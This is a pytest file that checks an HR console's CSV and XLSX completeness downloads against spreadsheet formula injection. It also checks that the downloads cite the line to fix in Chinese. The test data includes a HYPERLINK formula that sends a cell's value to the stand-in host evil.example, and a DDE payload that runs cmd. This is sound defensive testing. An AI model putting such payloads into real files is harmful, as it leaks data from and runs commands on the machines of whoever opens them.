"""The completeness downloads over real HTTP, with HR values that try to be formulas."""

from __future__ import annotations

import csv
import io

import requests
from openpyxl import load_workbook

from syncd.reporting import messages
from syncd.reporting.spreadsheet import FORMULA_STARTS
from tests.conftest import PEOPLE
from tests.console.conftest import csrf_of
from tests.console.harness import Bureau, Console

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击修正")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def hr_gets(served: Console, bureau: Bureau, *paths: str) -> list[requests.Response]:
    """Sign in with the hr token through the form, then read each path."""
    with requests.Session() as client:
        form = client.get(f"{served.base_url}/signin", timeout=10)
        client.post(f"{served.base_url}/signin", data={"csrf_token": csrf_of(form.text), "token": bureau.tokens["hr"]},
                    timeout=10)
        return [client.get(f"{served.base_url}{path}", timeout=30) for path in paths]


def test_formula_values_from_hr_are_reported_and_downloaded_as_text_in_every_sheet(served: Console,
                                                                                   bureau: Bureau) -> None:
    people = [{**p, "姓名": HYPERLINK, "职务": DDE} if p["工号"] == "A000002" else dict(p) for p in PEOPLE]
    bureau.write_export(people)  # before the console first reads HR
    xlsx, text = hr_gets(served, bureau, "/completeness/report.xlsx", "/completeness/report.csv")
    assert xlsx.status_code == 200 and text.status_code == 200

    workbook = load_workbook(io.BytesIO(xlsx.content))
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert len(workbook.worksheets) == 2 and cells
    assert all(cell.data_type == "s" for cell in cells), {(c.coordinate, c.data_type) for c in cells}
    values = [str(cell.value) for cell in cells]
    assert not [v for v in values if v.startswith(FORMULA_STARTS)]
    assert "'" + HYPERLINK in values  # the name, shown as the text HR typed
    [row] = [r for r in workbook.worksheets[0].iter_rows(values_only=True) if r[2] == "A000002"]
    assert "姓名" in row[6] and "职务" in row[6]  # both reported as invalid fields

    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    [person] = [r for r in rows if r[2] == "A000002"]
    assert person[3] == "'" + HYPERLINK and "姓名" in person[6]


def test_the_downloads_name_the_line_to_fix_in_the_pages_chinese_words(served: Console, bureau: Bureau) -> None:
    people = [{**p, "手机号": "12345"} if p["工号"] == "A000003" else dict(p) for p in PEOPLE]
    bureau.write_export(people)  # before the console first reads HR
    line = next(i for i, p in enumerate(people) if p["工号"] == "A000003") + 2  # the header is line 1
    place = messages.console_text("place.person", line=line)
    page, xlsx, text = hr_gets(served, bureau, "/completeness", "/completeness/report.xlsx",
                               "/completeness/report.csv")
    assert place in page.text
    [sheet_row] = [r for r in load_workbook(io.BytesIO(xlsx.content)).worksheets[0].iter_rows(values_only=True)
                   if r[2] == "A000003"]
    [csv_row] = [r for r in csv.reader(io.StringIO(text.content.decode("utf-8-sig"))) if r[2] == "A000003"]
    assert sheet_row[-1] == csv_row[-1] == place
    assert not [cell for cell in [*sheet_row, *csv_row] if cell and "people.csv" in str(cell)]
